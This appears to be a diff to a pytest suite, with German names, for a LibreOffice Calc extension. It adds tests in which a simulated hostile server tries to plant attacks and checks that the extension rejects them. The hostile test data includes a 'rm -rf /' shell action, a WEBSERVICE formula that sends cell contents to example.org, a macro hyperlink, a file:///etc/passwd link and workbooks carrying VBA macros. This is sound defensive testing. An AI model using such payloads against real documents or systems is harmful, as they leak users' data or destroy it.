@@ -202,7 +202,7 @@ class _Antwort(http.server.BaseHTTPRequestHandler):
 def _server(antworten: dict[str, tuple[int, dict, bytes]]) -> Iterator[str]:
     _Antwort.antworten, _Antwort.gesehen = antworten, []
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Antwort)
-    faden = threading.Thread(target=server.serve_forever, daemon=True)
+    faden = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
     faden.start()
     try:
         yield f"http://127.0.0.1:{server.server_address[1]}"
@@ -676,3 +676,145 @@ def test_5_neue_vorlage_and_beispiel_laden_as_in_the_excel_add_in(calc):
     assert ergebnis["blaetter"][:1] == ["Anlage 3b"]
     assert ergebnis["eigenschaften"]["pyxl_formular"] == "RZWAS-3B"
     assert ergebnis["werte"]["Anlage 3b!H46"] == pytest.approx(soll, abs=0.005)
+
+
+# -- attacks: a compromised server (or a man in the middle on http) answering with hostile actions
+
+
+PRUEFEN = kern.SKRIPT + "vorlage_pruefen"
+VORLAGE = kern.SKRIPT + "neue_vorlage"
+
+
+@contextlib.contextmanager
+def _feindlicher_server(calc: Calc, antworten: dict[str, list]) -> Iterator[str]:
+    """A server that answers each script with the given actions; the extension's options point at it meanwhile."""
+    roh = {pfad: (200, {"Content-Type": "application/json"}, json.dumps({"actions": a}).encode())
+           for pfad, a in antworten.items()}  # fmt: skip
+    with _server(roh) as url:
+        try:
+            calc.einstellen(url, token="")
+            yield url
+        finally:
+            calc.einstellen(calc.server)
+
+
+def _werte(werte: list[list], zeile: int = 0, spalte: int = 0, blatt: int = 0, **anders: object) -> dict:
+    return {"func": "setValues", "sheet_position": blatt, "start_row": zeile, "start_column": spalte,
+            "row_count": len(werte), "column_count": len(werte[0]), "values": werte, "args": [], **anders}  # fmt: skip
+
+
+@pytest.mark.langsam
+def test_7_text_from_the_server_that_looks_like_a_formula_stays_text(calc):
+    """setDataArray never makes a formula: a server (or a man in the middle) cannot plant =WEBSERVICE(…)."""
+    boese = ['=WEBSERVICE("http://example.org/?"&B9)', "'=1+1", "@SUM(B9)", "+B9", "-B9", "=B9"]
+    with _feindlicher_server(calc, {PRUEFEN: [_werte([boese])]}):
+        ergebnis = calc("befehl", {"befehl": "vorlage_pruefen", "werte": {"B9": 42},
+                                   "zellen": [f"{s}1" for s in "ABCDEF"]})  # fmt: skip
+    assert ergebnis["meldung"].startswith("Prüfung abgeschlossen")
+    zellen = ergebnis["zellen"]
+    assert [zellen[f"{s}1"]["art"] for s in "ABCDEF"] == ["TEXT"] * 6
+    assert [zellen[f"{s}1"]["text"] for s in "ABCDEF"] == [boese[0], "=1+1", *boese[2:]]
+
+
+def _ein(func: str, *args: object, **felder: object) -> dict:
+    return {"func": func, "sheet_position": 0, "start_row": 0, "start_column": 0, "row_count": 1, "column_count": 1,
+            "values": [[""]], "args": list(args), **felder}  # fmt: skip
+
+
+FEINDLICHE_AKTIONEN = {
+    "keine Liste von Objekten": ["setValues"],
+    "Aktion ohne Angaben": [{"func": "setValues"}],
+    "unbekannte Aktion": [{"func": "shell", "args": ["rm -rf /"]}],
+    "negative Zeile": [_werte([["x"]], zeile=-5)],
+    "riesige Zeilenzahl": [_werte([["x"]], row_count=10**9)],
+    "Werte passen nicht zum Bereich": [_werte([["x", "y"], ["z", "w"]], row_count=1, column_count=1)],
+    "Blatt gibt es nicht": [_werte([["x"]], blatt=7)],
+    "Farbe kein Hex": [_ein("setRangeColor", "#zzzzzz")],
+    "Blattname keine Zeichenkette": [_ein("addSheet", 0, 5)],
+    "Druckbild Unsinn": [_ein("pyxlDruckbild", "a", None, 3, [])],
+    "Notiz mit falscher Adresse": [  # the first sheet is "Sheet1" or "Tabelle1", by the interface language
+        _ein(
+            "pyxlNotizen", [], [["Gibtsnicht", "A1", "x"], ["Sheet1", "nirgends!", "x"], ["Tabelle1", "nirgends!", "x"]]
+        )
+    ],
+    "Vorlage kein Base64": [_ein("pyxlInsertWorksheets", "kein base64 ☹")],
+}
+
+
+@pytest.mark.langsam
+@pytest.mark.parametrize("fall", list(FEINDLICHE_AKTIONEN))
+def test_7_a_hostile_answer_is_one_german_message_and_the_sheet_is_protected_again(calc, fall):
+    with _feindlicher_server(calc, {PRUEFEN: FEINDLICHE_AKTIONEN[fall]}):
+        ergebnis = calc("befehl", {"befehl": "vorlage_pruefen", "werte": {"A1": "Eingabe"}, "schutz": "",
+                                   "zellen": ["A1"]})  # fmt: skip
+    assert ergebnis["meldung"].startswith(
+        ("Antwort des pyxl-Servers", "Unbekannte Aktion", "Vorlage vom Server abgelehnt")
+    ), ergebnis
+    assert "Traceback" not in ergebnis["meldung"] and "Exception" not in ergebnis["meldung"]
+    assert ergebnis["geschuetzt"]  # the protection lifted for the marks is back
+    assert ergebnis["zellen"]["A1"]["text"] == "Eingabe"
+
+
+@pytest.mark.langsam
+def test_7_a_hostile_server_cannot_wipe_the_clerks_sheet_or_link_to_a_macro(calc):
+    makro = "vnd.sun.star.script:Standard.Module1.Boese?language=Basic&location=application"
+    for aktionen, erwartet in [
+        ([_ein("sheetClear")], "nur das Blatt „Prüfbericht“"),
+        ([_ein("addHyperlink", makro, "Hier klicken", "")], "nur Verweise auf Zellen des Dokuments"),
+        ([_ein("addHyperlink", "file:///etc/passwd#x!A1", "x", "")], "nur Verweise auf Zellen des Dokuments"),
+    ]:
+        with _feindlicher_server(calc, {PRUEFEN: aktionen}):
+            ergebnis = calc("befehl", {"befehl": "vorlage_pruefen", "werte": {"A1": "Eingabe"},
+                                       "zellen": ["A1"]})  # fmt: skip
+        assert erwartet in ergebnis["meldung"], ergebnis
+        assert ergebnis["zellen"]["A1"] == {"art": "TEXT", "text": "Eingabe", "formel": "Eingabe",
+                                                     "verweise": []}  # fmt: skip
+
+
+def _xlsx(**teile: bytes | str) -> str:
+    import base64
+    import io
+
+    puffer = io.BytesIO()
+    mappe = openpyxl.Workbook()
+    mappe.active["A1"] = "Formular"
+    mappe.save(puffer)
+    if teile:
+        with zipfile.ZipFile(puffer, "a") as archiv:
+            for name, inhalt in teile.items():
+                archiv.writestr(name.replace("__", "/"), inhalt)
+    return base64.b64encode(puffer.getvalue()).decode()
+
+
+@pytest.mark.langsam
+@pytest.mark.parametrize(
+    "teile",
+    [
+        {"xl__vbaProject.bin": b"\0" * 64},  # macros
+        {"xl__externalLinks__externalLink1.xml": "<externalLink/>"},  # links to other files
+        {"xl__worksheets__sheet2.xml": '<f>_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)</f>'},  # sends cells
+    ],
+    ids=["makros", "externe_verknuepfung", "webservice"],
+)
+def test_7_a_form_from_the_server_with_macros_or_links_is_not_opened(calc, teile):
+    with _feindlicher_server(calc, {VORLAGE: [_ein("pyxlInsertWorksheets", _xlsx(**teile))]}):
+        ergebnis = calc("befehl", {"befehl": "neue_vorlage", "argument": "RZWAS-3B"})
+    assert ergebnis["neue_dokumente"] == 0, ergebnis
+    assert "Vorlage vom Server abgelehnt" in ergebnis["meldung"]
+
+
+@pytest.mark.langsam
+def test_7_a_whole_column_is_refused_in_german_and_costs_seconds_not_minutes(calc):
+    """A hostile (or careless) sheet passes a whole column: the server refuses it (413, German); PYXL_MELDUNG says
+    so without reading a million cells (Calc writes C1:C1048576 as C:C)."""
+    formeln = {"A1": "=KZ_ANTEIL(C1:C1048576;1)", "B1": "=PYXL_MELDUNG(A1)",
+               "A2": "=KZ_ANTEIL(C:C;1)", "B2": "=PYXL_MELDUNG(A2)"}  # fmt: skip
+    ergebnis = calc("formeln", {"werte": {"C1": 5}, "formeln": formeln})
+    zellen = ergebnis["zellen"]
+    assert zellen["A1"]["fehler"] == 519 and zellen["A2"]["fehler"] == 519
+    for zelle in ("B1", "B2"):
+        assert zellen[zelle]["text"] == (
+            "KZ_ANTEIL: Argument 1 („C:C“) ist eine ganze Spalte oder Zeile – bitte nur den benutzten Bereich "
+            "übergeben, z. B. C2:C200"
+        )
+    assert ergebnis["dauer"] < 20
